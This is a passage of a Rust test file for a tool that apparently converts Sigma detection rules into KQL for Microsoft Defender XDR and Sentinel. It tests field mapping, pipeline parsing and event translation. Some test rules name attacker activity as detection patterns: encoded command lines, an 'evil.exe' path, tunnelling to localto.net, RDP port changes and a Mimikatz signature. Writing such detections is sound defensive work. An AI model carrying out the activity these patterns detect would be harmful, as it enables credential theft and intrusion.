        "  category: process_creation\n  product: windows",
        "  sel:\n    ProcPath: 'C:\\Windows\\*\\evil.exe'\n    Cmd|contains: ' -enc '\n    Hostname: pc1\n  condition: sel",
    );
    let alone = map_with(&custom, &r);
    assert_eq!(alone.table, None);
    assert!(has_leaf(&alone, "Image", "%SystemDrive%\\Windows\\*\\evil.exe"), "{:?}", shown(&alone));
    assert!(has_leaf(&alone, "Tenant", "prod"));
    assert!(!shown(&alone).iter().any(|(c, _)| c == "Hostname"));
    let chained = chain(custom, builtin("microsoft_xdr").unwrap_or_default());
    assert_eq!(chained.name, "my pipeline+microsoft_xdr");
    let m = map_with(&chained, &r);
    assert_eq!(m.table.as_deref(), Some("DeviceProcessEvents"));
    // Wildcards survive replace_string (it only touches literal text).
    assert!(has_leaf(&m, "FolderPath", "%SystemDrive%\\Windows\\*\\evil.exe"), "{:?}", shown(&m));
    assert!(has_leaf(&m, "ProcessCommandLine", "* -enc *"));
    assert!(has_leaf(&m, "InitiatingProcessCommandLine", "* -enc *"));
    let fm =
        m.field_mappings.iter().find(|f| f.sigma == "ProcPath").unwrap_or_else(|| panic!("{:?}", m.field_mappings));
    assert_eq!(fm.targets, vec!["FolderPath".to_string()]);
    // The added condition is on a field the target does not have: reported.
    assert!(m.notes.iter().any(|n| n.is_error() && n.message.contains("Tenant")), "{:#?}", m.notes);
}

#[test]
fn custom_query_table_and_failures() {
    let text = "\
transformations:
  - type: set_state
    key: query_table
    val: imProcessCreate
  - type: detection_item_failure
    message: CommandLine is not collected here
    detection_item_conditions:
      - type: include_fields
        fields: [CommandLine]
  - type: rule_failure
    message: no linux data
    rule_conditions:
      - type: logsource
        product: linux
";
    let p = parse_custom(text).unwrap_or_else(|d| panic!("{d:#?}"));
    let r = rule_with(
        "  category: process_creation\n  product: windows",
        "  sel:\n    TargetProcessName|endswith: '\\cmd.exe'\n    CommandLine: x\n    Nope: y\n  condition: sel",
    );
    let m = map_with(&p, &r);
    assert_eq!(m.table.as_deref(), Some("imProcessCreate"));
    let l = leaves(&m).into_iter().find(|l| l.item.field.as_deref() == Some("TargetProcessName"));
    assert_eq!(l.map(|l| l.column_type), Some(ColumnType::String));
    let fail = m.notes.iter().find(|n| n.code == "detection-item-failure").unwrap_or_else(|| panic!("{:#?}", m.notes));
    assert_eq!(fail.line(), 8);
    assert!(m.notes.iter().any(|n| n.code == "unknown-column" && n.message.contains("Nope")), "{:#?}", m.notes);
    assert!(!m.notes.iter().any(|n| n.code == "unknown-column" && n.message.contains("CommandLine")));
    assert!(!m.notes.iter().any(|n| n.code == "rule-failure"));
    let linux =
        rule_with("  category: process_creation\n  product: linux", "  sel:\n    CommandLine: x\n  condition: sel");
    assert!(map_with(&p, &linux).notes.iter().any(|n| n.code == "rule-failure" && n.message.contains("no linux data")));
}

#[test]
fn custom_pipeline_errors_have_positions() {
    let text = "\
name: bad
transformations:
  - id: a
    type: field_name_mapping
  - id: b
    type: frobnicate
  - id: c
    type: replace_string
    regex: '(unclosed'
    replacement: x
  - type: field_name_mapping
    mapping:
      A: B
    rule_conditions:
      - type: wat
";
    let errs = parse_custom(text).err().unwrap_or_default();
    let find = |code: &str| errs.iter().find(|d| d.code == code).unwrap_or_else(|| panic!("{code}: {errs:#?}"));
    let missing = find("pipeline-missing");
    assert!(missing.message.contains("mapping"));
    assert_eq!((missing.line(), missing.col()), (4, 11));
    let unknown = find("pipeline-unknown-transformation");
    assert_eq!((unknown.line(), unknown.col()), (6, 11));
    assert!(
        unknown.message.contains("frobnicate") && unknown.message.contains("field_name_mapping"),
        "{}",
        unknown.message
    );
    let re = find("pipeline-regex");
    assert_eq!(re.line(), 9);
    let cond = find("pipeline-unknown-condition");
    assert_eq!((cond.line(), cond.col()), (15, 15));
    assert!(cond.message.contains("logsource"));
    assert!(parse_custom("").is_err());
    assert!(parse_custom("[1, 2]").is_err());
    assert!(parse_custom("transformations: [").err().is_some_and(|d| d.iter().any(|x| x.code == "yaml-syntax")));
    let ok =
        parse_custom("transformations:\n  - type: value_placeholders\nfoo: 1\n").unwrap_or_else(|d| panic!("{d:#?}"));
    assert_eq!(ok.warnings.len(), 2, "{:#?}", ok.warnings);
}

#[test]
fn python_replacement_syntax() {
    let p = parse_custom(
        "transformations:\n  - type: replace_string\n    regex: '^(\\w+)\\\\(\\w+)$'\n    replacement: '\\2@\\1 $'\n",
    )
    .unwrap_or_else(|d| panic!("{d:#?}"));
    let r = rule_with("  product: windows", "  sel:\n    User: 'CORP\\bob'\n  condition: sel");
    let m = map_with(&p, &r);
    assert!(has_leaf(&m, "User", "bob@CORP $"), "{:?}", shown(&m));
}

// ---------------------------------------------------------------------------
// Events

fn ev(json: &str) -> Event {
    Event::from_json(serde_json::from_str(json).unwrap_or(Value::Null))
}

#[test]
fn map_event_uses_the_same_value_mappings() {
    let r = rule(LOCALTONET);
    let e = ev(
        r#"{"EventID": 3, "Image": "C:\\x\\agent.exe", "DestinationHostname": "abc.localto.net", "Initiated": "true",
        "DestinationPort": "443", "User": "CORP\\bob", "RuleName": "-"}"#,
    );
    let (asim, notes) = map_event(&builtin("sentinel_asim").unwrap_or_default(), &r, &e);
    assert_eq!(asim["NetworkDirection"], "Outbound");
    assert_eq!(asim["DstFQDN"], "abc.localto.net");
    assert_eq!(asim["DstHostname"], "abc");
    assert_eq!(asim["DstPortNumber"], 443);
    assert_eq!(asim["SrcUsername"], "CORP\\bob");
    assert!(asim.get("EventID").is_none());
    assert!(notes.iter().any(|n| n.code == "dropped-fields" && n.message.contains("RuleName")), "{notes:#?}");
    let (xdr, _) = map_event(&builtin("microsoft_xdr").unwrap_or_default(), &r, &e);
    assert_eq!(xdr["ActionType"], "ConnectionSuccess");
    assert_eq!(xdr["RemoteUrl"], "abc.localto.net");
    assert_eq!(xdr["RemotePort"], 443);
    assert_eq!(xdr["InitiatingProcessAccountDomain"], "CORP");
    assert_eq!(xdr["InitiatingProcessAccountName"], "bob");

    let proc_rule =
        rule_with("  category: process_creation\n  product: windows", "  sel:\n    Image: x\n  condition: sel");
    let e = ev(
        r#"{"Hashes": "MD5=AA,SHA256=BB,IMPHASH=CC", "ParentImage": "C:\\Windows\\explorer.exe", "LogonId": "0x3e7"}"#,
    );
    let (xdr, _) = map_event(&builtin("microsoft_xdr").unwrap_or_default(), &proc_rule, &e);
    assert_eq!(xdr["MD5"], "AA");
    assert_eq!(xdr["SHA256"], "BB");
    assert_eq!(xdr["LogonId"], 999);
    assert_eq!(xdr["InitiatingProcessFolderPath"], "C:\\Windows\\explorer.exe");
    let (asim, _) = map_event(&builtin("sentinel_asim").unwrap_or_default(), &proc_rule, &e);
    assert_eq!(asim["TargetProcessIMPHASH"], "CC");

    let reg_rule =
        rule_with("  category: registry_set\n  product: windows", "  sel:\n    TargetObject: x\n  condition: sel");
    let e = ev(
        r#"{"EventType": "SetValue", "TargetObject": "HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\WinStations\\RDP-Tcp\\PortNumber", "Details": "DWORD (0x00001189)"}"#,
    );
    let (xdr, _) = map_event(&builtin("microsoft_xdr").unwrap_or_default(), &reg_rule, &e);
    assert_eq!(
        xdr["RegistryKey"],
        "HKEY_LOCAL_MACHINE\\System\\CurrentControlSet\\Control\\Terminal Server\\WinStations\\RDP-Tcp"
    );
    assert_eq!(xdr["RegistryValueName"], "PortNumber");
    assert_eq!(xdr["RegistryValueData"], "4489");
    assert_eq!(xdr["ActionType"], "RegistryValueSet");
    let pipe_rule =
        rule_with("  category: pipe_created\n  product: windows", "  sel:\n    PipeName: x\n  condition: sel");
    let (xdr, _) = map_event(&builtin("microsoft_xdr").unwrap_or_default(), &pipe_rule, &ev(r#"{"PipeName": "\\x"}"#));
    assert_eq!(xdr["AdditionalFields"]["PipeName"], "\\x");
    assert_eq!(xdr["ActionType"], "NamedPipeEvent");
}

/// Evaluates a mapped expression over a mapped event (the subset of tests the
/// pipeline produces), standing in for the KQL evaluator.
/// A value the row keeps inside a text column, read as the query's `extract`
/// reads it: `<Data Name="X">` of an XML text, `X=` of an audit record or
/// of a CEF record's `;`-separated extensions.
fn value_in_text(column_type: ColumnType, field: &str, ev: &Event) -> Option<Value> {
    if column_type == ColumnType::CefExtension {
        let (base, name) = field.split_once(':')?;
        let text = ev.get(base)?.as_str()?;
        let value = text.split(';').find_map(|pair| pair.strip_prefix(name)?.strip_prefix('='));
        return Some(Value::String(value.unwrap_or("").to_string()));
    }
    let (base, name, open) = match column_type {
        ColumnType::EventXml => {
            let (base, name) = field.split_once('.')?;
            (base, name, format!("<Data Name=\"{name}\">"))
        }
        ColumnType::AuditField => {
            let (base, name) = field.split_once(':')?;
            (base, name, format!("{name}="))
        }
        _ => return None,
    };
    let text = ev.get(base)?.as_str()?.to_string();
    let mut from = 0;
    while let Some(at) = text.get(from..)?.find(&open) {
        let start = from + at;
        let after = text.get(start + open.len()..)?;
        let boundary = start == 0 || text.get(..start).is_some_and(|b| b.ends_with([' ', '\'', '\u{1d}', '>']));
        if column_type == ColumnType::EventXml {
            return Some(Value::String(after.split('<').next().unwrap_or("").to_string()));
        }
        if boundary && !name.is_empty() {
            let raw = if let Some(q) = after.strip_prefix('"') {
                format!("\"{}\"", q.split('"').next().unwrap_or(""))
            } else {
                after.split([' ', '\'', '\u{1d}']).next().unwrap_or("").to_string()
            };
            return Some(Value::String(raw));
        }
        from = start + open.len();
    }
    None
}

fn eval(e: &Expr<MappedItem>, ev: &Event) -> bool {
    match e {
        Expr::And(xs) => xs.iter().all(|x| eval(x, ev)),
        Expr::Or(xs) => xs.iter().any(|x| eval(x, ev)),
        Expr::Not(x) => !eval(x, ev),
        Expr::Const(b) => *b,
        Expr::Leaf(m) => {
            let in_text = m.item.field.as_deref().and_then(|f| value_in_text(m.column_type, f, ev));
            let value = m.item.field.as_deref().and_then(|f| ev.get(f));
            let value = in_text.as_ref().or(value);
            let text = value.and_then(|v| match v {
                Value::String(s) => Some(s.clone()),
                Value::Number(n) => Some(n.to_string()),
                Value::Bool(b) => Some(b.to_string()),
                _ => None,
            });
            let one = |t: &Test| match t {
                Test::Glob { pattern, cased } => {
                    text.as_deref().is_some_and(|s| convert::glob_match(pattern, s, *cased))
                }
                Test::Number { value, .. } => {
                    text.as_deref().and_then(|s| s.trim().parse::<f64>().ok()) == Some(*value)
                }
                Test::Exists(b) => text.as_deref().is_some_and(|s| !s.is_empty()) == *b,
                Test::Null => value.is_none_or(Value::is_null),
                Test::FieldRef { field, .. } => {
                    let other = ev.get(field).map(|v| v.to_string().to_lowercase());
                    value.is_some() && other.is_some() && value.map(|v| v.to_string().to_lowercase()) == other
                }
                Test::Regex { pattern, i, .. } => crate::re::Regex::with_case(pattern, *i)
                    .is_ok_and(|re| text.as_deref().is_some_and(|s| re.is_match(s))),
                _ => false,
            };
            let hit = if m.item.all { m.item.tests.iter().all(one) } else { m.item.tests.iter().any(one) };
            hit != m.item.negate
        }
    }
}

#[test]
fn mapped_queries_agree_with_the_matcher_on_regression_events() {
    let base = concat!(env!("CARGO_MANIFEST_DIR"), "/../../shared/corpus");
    let Ok(cases) = std::fs::read_to_string(format!("{base}/regression-cases.jsonl")) else { return };
    let mut checked = 0;
    let mut disagreements = Vec::new();
    for line in cases.lines() {
        let Ok(case) = serde_json::from_str::<Value>(line) else { continue };
        let (Some(rp), Some(ep)) = (case["rule_path"].as_str(), case["event_file"].as_str()) else { continue };
        let (Ok(rt), Ok(et)) = (
            std::fs::read_to_string(format!("{base}/sigmahq/{rp}")),
            std::fs::read_to_string(format!("{base}/sigmahq/{ep}")),
        ) else {
            continue;
        };
        let Ok(r) = parse_rule(&rt) else { continue };
        let matcher = crate::engine::matcher::Matcher::new(&r, &crate::engine::matcher::MatchOptions::default());
        let events = crate::event::parse_events(&et).events;
        for target in ["microsoft_xdr", "sentinel_asim", "azure_monitor"] {
            let p = builtin(target).unwrap_or_default();
            let m = map_with(&p, &r);
            // Only rules the pipeline calls exact can be held to the matcher's answer.
            if m.notes.iter().any(|n| n.severity >= Severity::Warning) || m.table.is_none() {
                continue;
            }
            for e in &events {
                let (mapped_event, _) = map_event(&p, &r, e);
                let want = matcher.matches(e);
                let got = eval(&m.expr, &Event::from_json(mapped_event.clone()));
                checked += 1;
                if want != got {
                    disagreements.push(format!("{target} {rp}: matcher {want}, mapped {got}\n  {mapped_event}"));
                }
            }
        }
    }
    println!("{checked} rule x event x target checks agree");
    assert!(checked > 200, "{checked}");
    assert!(disagreements.is_empty(), "{} of {checked}:\n{}", disagreements.len(), disagreements.join("\n"));
}

#[test]
fn hostile_input_does_not_panic() {
    for text in [
        "transformations:\n  - type: field_name_mapping\n    mapping: [1]\n",
        "transformations:\n  - 5\n",
        "{",
        "transformations:\n  - type: [x]\n",
        "name: [1]\ntransformations: {}\n",
    ] {
        let _ = parse_custom(text);
    }
    let r = rule_with(
        "  category: registry_set\n  product: windows",
        "  sel:\n    TargetObject: ['', '*', '\\', '\\\\', 'HKLM', 'HKLM\\', '?\\?', '*\\*\\*', 'a\\b\\c?*']\n    Details: ['DWORD (', 'DWORD (0xZZ)', 'DWORD (0x1']\n    User: ['\\', 'a\\b\\c', '*\\']\n  condition: sel",
    );
    for t in BUILTIN_NAMES {
        let _ = map(t, &r);
    }
    assert!(convert::glob_match(&SigmaString::parse("a*b?c"), "aXXbYc", false));
    assert!(!convert::glob_match(&SigmaString::parse("a*b?c"), "aXXbc", false));
}

/// Corpus statistics (run with `--ignored --nocapture`): how many rules each
/// target converts exactly, with notes, or not at all, and the commonest notes.
#[test]
#[ignore]
fn corpus_statistics() {
    let base = concat!(env!("CARGO_MANIFEST_DIR"), "/../../shared/corpus/sigmahq");
    let mut files = Vec::new();
    let mut stack = vec![std::path::PathBuf::from(base)];
    while let Some(dir) = stack.pop() {
        let Ok(rd) = std::fs::read_dir(&dir) else { continue };
        for e in rd.flatten() {
            let p = e.path();
            if p.is_dir() {
                if !p.ends_with("regression_data") && !p.ends_with("deprecated") {
                    stack.push(p);
                }
            } else if p.extension().is_some_and(|x| x == "yml") && !p.to_string_lossy().contains("/tests/") {
                files.push(p);
            }
        }
    }
    for target in ["microsoft_xdr", "sentinel_asim", "azure_monitor"] {
        let p = builtin(target).unwrap_or_default();
        let (mut exact, mut noted, mut failed, mut no_table) = (0, 0, 0, 0);
        let mut counts: std::collections::BTreeMap<String, usize> = Default::default();
        for f in &files {
            let Ok(text) = std::fs::read_to_string(f) else { continue };
            let Ok(r) = parse_rule(&text) else { continue };
            let (compiled, _) = compile_detection(&r.detection, &Placeholders::new());
            let m = apply(&p, &r, lower(&compiled));
            if m.notes.iter().any(|n| n.code == "no-table") {
                no_table += 1;
            } else if m.notes.iter().any(Diagnostic::is_error) {
                failed += 1;
            } else if m.notes.iter().any(|n| n.severity == Severity::Warning) {
                noted += 1;
            } else {
                exact += 1;
            }
            for n in &m.notes {
                if n.severity >= Severity::Warning && n.code != "no-table" {
                    let key = format!(
                        "{:?} {} | {}",
                        n.severity,
                        n.code,
                        n.message.split(": ").skip(1).collect::<Vec<_>>().join(": ")
                    );
                    let field = n.message.split(' ').next().unwrap_or("");
                    *counts.entry(format!("{field} :: {key}")).or_default() += 1;
                }
            }
        }
        println!(
            "== {target}: {} rules: exact {exact}, with warnings {noted}, errors {failed}, no table {no_table}",
            files.len()
        );
        let mut v: Vec<_> = counts.into_iter().collect();
        v.sort_by_key(|b| std::cmp::Reverse(b.1));
        for (k, c) in v.into_iter().take(40) {
            println!("{c:5} {k}");
        }
    }
}

/// A minimal KQL rendering, only to check mapped columns and types with
/// kql-check (`--ignored`; writes JSON lines to $SIGMAPLAY_KQL_OUT).
fn kql_string(s: &str) -> String {
    format!("\"{}\"", s.replace('\\', "\\\\").replace('"', "\\\""))
}

fn kql_test(col: &str, t: &Test, ty: ColumnType) -> String {
    let col = if ty == ColumnType::Dynamic && col.contains('.') { format!("tostring({col})") } else { col.to_string() };
    match t {
        Test::Glob { pattern, .. } => {
            let numeric = matches!(ty, ColumnType::Int | ColumnType::Long | ColumnType::Real);
            match pattern.as_plain() {
                Some(p) if numeric && p.parse::<f64>().is_ok() => format!("{col} == {p}"),
                Some(p) => format!("{col} =~ {}", kql_string(&p)),
                None => {
                    let parts = &pattern.parts;
                    let inner: Vec<&Part> = parts.iter().filter(|p| !matches!(p, Part::Star)).collect();
                    let simple = inner.len() == 1 && matches!(inner[0], Part::Lit(_));
                    let text = match inner.first() {
                        Some(Part::Lit(t)) => t.clone(),
                        _ => String::new(),
                    };
                    let lead = pattern.starts_with_star();
                    let trail = pattern.ends_with_star();
                    if simple && lead && trail && parts.len() == 3 {
                        format!("{col} contains {}", kql_string(&text))
                    } else if simple && lead && parts.len() == 2 {
                        format!("{col} endswith {}", kql_string(&text))
                    } else if simple && trail && parts.len() == 2 {
                        format!("{col} startswith {}", kql_string(&text))
                    } else {
                        format!("{col} matches regex {}", kql_string(&pattern.to_regex(true)))
                    }
                }
            }
        }
        Test::Number { value, .. } => {
            if matches!(ty, ColumnType::String) {
                format!("{col} == {}", kql_string(&value.to_string()))
            } else {
                format!("{col} == {value}")
            }
        }
        Test::Exists(true) => format!("isnotempty({col})"),
        Test::Exists(false) => format!("isempty({col})"),
        Test::Null => format!("isnull({col})"),
        Test::Bool(b) => format!("{col} == {b}"),
        Test::Regex { pattern, .. } => format!("{col} matches regex {}", kql_string(pattern)),
        Test::Cidr(c) => format!("ipv4_is_in_range({col}, {})", kql_string(&c.text)),
        Test::Compare { op, value } => {
            let o = match op {
                crate::sigma::compiled::CmpOp::Lt => "<",
                crate::sigma::compiled::CmpOp::Lte => "<=",
                crate::sigma::compiled::CmpOp::Gt => ">",
                crate::sigma::compiled::CmpOp::Gte => ">=",
            };
            format!("{col} {o} {value}")
        }
        _ => "true".to_string(),
    }
}

fn kql_expr(e: &Expr<MappedItem>) -> String {
    match e {
        Expr::And(xs) => format!("({})", xs.iter().map(kql_expr).collect::<Vec<_>>().join(" and ")),
        Expr::Or(xs) => format!("({})", xs.iter().map(kql_expr).collect::<Vec<_>>().join(" or ")),
        Expr::Not(x) => format!("not({})", kql_expr(x)),
        Expr::Const(b) => b.to_string(),
        Expr::Leaf(m) => {
            let Some(col) = &m.item.field else { return "true".to_string() };
            let parts: Vec<String> = m.item.tests.iter().map(|t| kql_test(col, t, m.column_type)).collect();
            let joined = format!("({})", parts.join(if m.item.all { " and " } else { " or " }));
            if m.item.negate {
                format!("not{joined}")
            } else {
                joined
            }
        }
    }
}

#[test]
#[ignore]
fn write_kql_for_kql_check() {
    let Ok(out) = std::env::var("SIGMAPLAY_KQL_OUT") else { return };
    let base = concat!(env!("CARGO_MANIFEST_DIR"), "/../../shared/corpus/sigmahq/rules");
    let mut files = Vec::new();
    let mut stack = vec![std::path::PathBuf::from(base)];
    while let Some(dir) = stack.pop() {
        let Ok(rd) = std::fs::read_dir(&dir) else { continue };
        for e in rd.flatten() {
            let p = e.path();
            if p.is_dir() {
                stack.push(p);
            } else if p.extension().is_some_and(|x| x == "yml") {
                files.push(p);
            }
        }
    }
    files.sort();
    let mut lines = Vec::new();
    for target in ["microsoft_xdr", "sentinel_asim", "azure_monitor"] {
        let p = builtin(target).unwrap_or_default();
        for f in &files {
            let Ok(text) = std::fs::read_to_string(f) else { continue };
            let Ok(r) = parse_rule(&text) else { continue };
            let (compiled, _) = compile_detection(&r.detection, &Placeholders::new());
            let m = apply(&p, &r, lower(&compiled));
            if m.notes.iter().any(Diagnostic::is_error) {
                continue;
            }
            let Some(table) = &m.table else { continue };
            let q = format!("{table}\n| where {}", kql_expr(&m.expr));
            let id = format!("{target}:{}", f.file_name().map(|n| n.to_string_lossy().to_string()).unwrap_or_default());
            lines.push(serde_json::json!({"id": id, "query": q}).to_string());
        }
    }
    let _ = std::fs::write(out, lines.join("\n"));
}

/// The real renderer over the corpus, for kql-check (`--ignored`, $SIGMAPLAY_KQL_OUT2).
#[test]
#[ignore]
fn write_rendered_kql_for_kql_check() {
    let Ok(out) = std::env::var("SIGMAPLAY_KQL_OUT2") else { return };
    let base = concat!(env!("CARGO_MANIFEST_DIR"), "/../../shared/corpus/sigmahq/rules");
    let mut files = Vec::new();
    let mut stack = vec![std::path::PathBuf::from(base)];
    while let Some(dir) = stack.pop() {
        let Ok(rd) = std::fs::read_dir(&dir) else { continue };
        for e in rd.flatten() {
            let p = e.path();
            if p.is_dir() {
                stack.push(p);
            } else if p.extension().is_some_and(|x| x == "yml") {
                files.push(p);
            }
        }
    }
    files.sort();
    let mut lines = Vec::new();
    for target in ["microsoft_xdr", "sentinel_asim", "azure_monitor"] {
        let p = builtin(target).unwrap_or_default();
        for f in &files {
            let Ok(text) = std::fs::read_to_string(f) else { continue };
            let Ok(r) = parse_rule(&text) else { continue };
            let c = crate::kql::convert(&r, &p, &Placeholders::new());
            for q in c.queries {
                let id =
                    format!("{target}:{}", f.file_name().map(|n| n.to_string_lossy().to_string()).unwrap_or_default());
                lines.push(serde_json::json!({"id": id, "query": q}).to_string());
            }
        }
    }
    let _ = std::fs::write(out, lines.join("\n"));
}

// ---------------------------------------------------------------------------
// microsoft_xdr: cloud tables

#[test]
fn cloudtrail_on_microsoft_xdr_reads_raw_event_data() {
    let r = rule_with(
        "  product: aws\n  service: cloudtrail",
        "  sel:\n    eventName: CreateUser\n    requestParameters.userName: admin\n  condition: sel",
    );
    let m = map("microsoft_xdr", &r);
    no_errors(&m);
    assert_eq!(m.table.as_deref(), Some("CloudAppEvents"));
    assert!(has_leaf(&m, "RawEventData.eventName", "CreateUser"), "{:?}", shown(&m));
    assert!(has_leaf(&m, "RawEventData.requestParameters.userName", "admin"), "{:?}", shown(&m));
    assert!(has_leaf(&m, "Application", "Amazon Web Services"), "{:?}", shown(&m));
    // What RawEventData holds per app is not documented: said, not silent.
    assert!(codes(&m).contains(&(Severity::Warning, "lossy-mapping".to_string())), "{:?}", codes(&m));
}

#[test]
fn okta_and_github_on_microsoft_xdr() {
    let okta = map(
        "microsoft_xdr",
        &rule_with("  product: okta\n  service: okta", "  sel:\n    eventType: user.session.start\n  condition: sel"),
    );
    no_errors(&okta);
    assert!(has_leaf(&okta, "RawEventData.eventType", "user.session.start"), "{:?}", shown(&okta));
    assert!(has_leaf(&okta, "Application", "Okta"), "{:?}", shown(&okta));
    let gh = map(
        "microsoft_xdr",
        &rule_with("  product: github\n  service: audit", "  sel:\n    action: repo.destroy\n  condition: sel"),
    );
    no_errors(&gh);
    assert!(has_leaf(&gh, "RawEventData.action", "repo.destroy"), "{:?}", shown(&gh));
    // Okta's target is a list: a flattened path into it names no value.
    let r = rule_with("  product: okta\n  service: okta", "  sel:\n    target.displayName: x\n  condition: sel");
    assert!(map("microsoft_xdr", &r).notes.iter().any(|n| n.is_error() && n.code == "unmapped-field"));
}

#[test]
fn signinlogs_on_microsoft_xdr() {
    let r = rule_with(
        "  product: azure\n  service: signinlogs",
        "  sel:\n    ResultType: 50126\n    AppDisplayName: Azure Portal\n  condition: sel",
    );
    let m = map("microsoft_xdr", &r);
    no_errors(&m);
    assert_eq!(m.table.as_deref(), Some("EntraIdSignInEvents"));
    assert!(has_leaf(&m, "ErrorCode", "50126"), "{:?}", shown(&m));
    assert!(has_leaf(&m, "Application", "Azure Portal"), "{:?}", shown(&m));
    // Words SigninLogs writes where EntraIdSignInEvents has the table reference's numbers.
    let r = rule_with(
        "  product: azure\n  service: signinlogs",
        "  sel:\n    RiskState: atRisk\n    conditionalAccessStatus: notApplied\n    DeviceDetail.isCompliant: 'true'\n    Status: Success\n  condition: sel",
    );
    let m = map("microsoft_xdr", &r);
    no_errors(&m);
    for (col, v) in [("RiskState", "4"), ("ConditionalAccessStatus", "2"), ("IsCompliant", "1"), ("ErrorCode", "0")] {
        assert!(has_leaf(&m, col, v), "{col}: {:?}", shown(&m));
    }
    // A word outside the vocabulary can never match, and says so.
    let r = rule_with("  product: azure\n  service: signinlogs", "  sel:\n    RiskState: atrisky\n  condition: sel");
    assert!(map("microsoft_xdr", &r).notes.iter().any(|n| n.code == "lossy-mapping"));
    // Failure is any other code; a status text has no column to be looked for in.
    let r = rule_with("  product: azure\n  service: signinlogs", "  sel:\n    Status: Failure\n  condition: sel");
    let m = map("microsoft_xdr", &r);
    no_errors(&m);
    assert!(matches!(&m.expr, Expr::Not(_)) || leaves(&m).iter().any(|l| l.item.negate), "{:?}", m.expr);
    let r = rule_with(
        "  product: azure\n  service: signinlogs",
        "  sel:\n    Status|contains: MFA Denied\n  condition: sel",
    );
    assert!(map("microsoft_xdr", &r).notes.iter().any(|n| n.is_error() && n.code == "unmapped-value"));
    // DeviceTrustType's words are not documented against SigninLogs': refused.
    let r = rule_with(
        "  product: azure\n  service: signinlogs",
        "  sel:\n    DeviceDetail.trusttype: ''\n  condition: sel",
    );
    assert!(map("microsoft_xdr", &r).notes.iter().any(|n| n.is_error() && n.code == "unmapped-field"));
}

#[test]
fn cloud_audit_logs_on_microsoft_xdr() {
    let m = cloud(
        "microsoft_xdr",
        "{product: azure, service: activitylogs}",
        "  sel:\n    operationName: MICROSOFT.AUTHORIZATION/ELEVATEACCESS/ACTION\n    OperationNameValue: x\n  condition: sel\n",
    );
    no_errors(&m);
    assert_eq!(m.table.as_deref(), Some("CloudAppEvents"));
    assert!(has_leaf(&m, "Application", "Microsoft Azure"), "{:?}", shown(&m));
    assert!(
        has_leaf(&m, "RawEventData.operationName", "MICROSOFT.AUTHORIZATION/ELEVATEACCESS/ACTION"),
        "{:?}",
        shown(&m)
    );
    assert!(has_leaf(&m, "RawEventData.operationName", "x"), "{:?}", shown(&m));
    let m = cloud(
        "microsoft_xdr",
        "{product: azure, service: activitylogs}",
        "  sel:\n    ResourceProviderValue: Microsoft.Compute\n  condition: sel\n",
    );
    assert!(m.notes.iter().any(|n| n.is_error() && n.code == "unmapped-field"), "{:#?}", m.notes);
    let m = cloud(
        "microsoft_xdr",
        "{product: gcp, service: gcp.audit}",
        "  sel:\n    gcp.audit.method_name: v1.compute.instances.delete\n  condition: sel\n",
    );
    no_errors(&m);
    assert!(has_leaf(&m, "Application", "Google Cloud Platform"), "{:?}", shown(&m));
    assert!(has_leaf(&m, "RawEventData.protoPayload.methodName", "v1.compute.instances.delete"), "{:?}", shown(&m));
    assert!(
        m.notes.iter().any(|n| n.code == "lossy-mapping" && n.message.contains("Admin Activity")),
        "{:#?}",
        m.notes
    );
    // authorizationInfo is a list in the LogEntry.
    let m = cloud(
        "microsoft_xdr",
        "{product: gcp, service: gcp.audit}",
        "  sel:\n    data.protoPayload.authorizationInfo.permission: x\n  condition: sel\n",
    );
    assert!(m.notes.iter().any(|n| n.is_error() && n.code == "unmapped-field"), "{:#?}", m.notes);
    // No Defender table: the reason is in the error.
    for (ls, word) in [
        ("{product: azure, service: riskdetection}", "risk event types"),
        ("{product: azure, service: auditlogs}", "unified audit log"),
    ] {
        let m = cloud("microsoft_xdr", ls, "  sel:\n    x: y\n  condition: sel\n");
        assert!(m.notes.iter().any(|n| n.code == "no-table" && n.message.contains(word)), "{ls}: {:#?}", m.notes);
    }
}

#[test]
fn service_installs_on_microsoft_xdr() {
    let r = rule_with(
        "  product: windows\n  service: system",
        "  sel:\n    Provider_Name: Service Control Manager\n    EventID: 7045\n    ImagePath|contains: powershell\n    ServiceName: x\n  condition: sel",
    );
    let m = map("microsoft_xdr", &r);
    no_errors(&m);
    assert_eq!(m.table.as_deref(), Some("DeviceEvents"));
    assert!(has_leaf(&m, "ActionType", "ServiceInstalled"), "{:?}", shown(&m));
    assert!(has_leaf(&m, "AdditionalFields.ServiceName", "x"), "{:?}", shown(&m));
    assert!(has_leaf(&m, "FolderPath", "*powershell*"), "{:?}", shown(&m));
    // The binary path is not the whole command line: a warning says so.
    assert!(m.notes.iter().any(|n| n.code == "lossy-mapping" && n.message.contains("arguments")), "{:#?}", m.notes);
    let r = rule_with(
        "  product: windows\n  service: security",
        "  sel:\n    EventID: 4697\n    ServiceStartType: 2\n  condition: sel",
    );
    let m = map("microsoft_xdr", &r);
    assert_eq!(m.table.as_deref(), Some("DeviceEvents"));
    assert!(m.notes.iter().any(|n| n.is_error() && n.code == "unmapped-field"), "{:#?}", m.notes);
}

#[test]
fn antivirus_on_microsoft_xdr_reads_defender_detections() {
    let r = rule_with("  category: antivirus", "  sel:\n    Signature|contains: Mimikatz\n  condition: sel");
    let m = map("microsoft_xdr", &r);
    no_errors(&m);
    assert_eq!(m.table.as_deref(), Some("DeviceEvents"));
    assert!(has_leaf(&m, "ActionType", "AntivirusDetection"), "{:?}", shown(&m));
    assert!(has_leaf(&m, "AdditionalFields.ThreatName", "*Mimikatz*"), "{:?}", shown(&m));
}

#[test]
fn linux_process_creation_refuses_windows_only_fields() {
    let r = rule_with(
        "  category: process_creation\n  product: linux",
        "  sel:\n    Image|endswith: /bash\n    User: root\n  condition: sel",
    );
    let m = map("microsoft_xdr", &r);
    no_errors(&m);
    assert_eq!(m.table.as_deref(), Some("DeviceProcessEvents"));
    assert!(has_leaf(&m, "FolderPath", "*/bash"), "{:?}", shown(&m));
    for field in ["OriginalFileName", "LogonId", "IntegrityLevel"] {
        let r = rule_with(
            "  category: process_creation\n  product: macos",
            &format!("  sel:\n    {field}: x\n  condition: sel"),
        );
        let m = map("microsoft_xdr", &r);
        assert!(m.notes.iter().any(|n| n.is_error() && n.code == "unmapped-field"), "{field}: {:#?}", m.notes);
    }
    // Windows keeps them.
    let r = rule_with(
        "  category: process_creation\n  product: windows",
        "  sel:\n    OriginalFileName: x.exe\n  condition: sel",
    );
    assert!(has_leaf(&map("microsoft_xdr", &r), "ProcessVersionInfoOriginalFileName", "x.exe"));
}

#[test]
fn dns_client_3008_on_microsoft_xdr() {
    let r = rule_with(
        "  product: windows\n  service: dns-client",
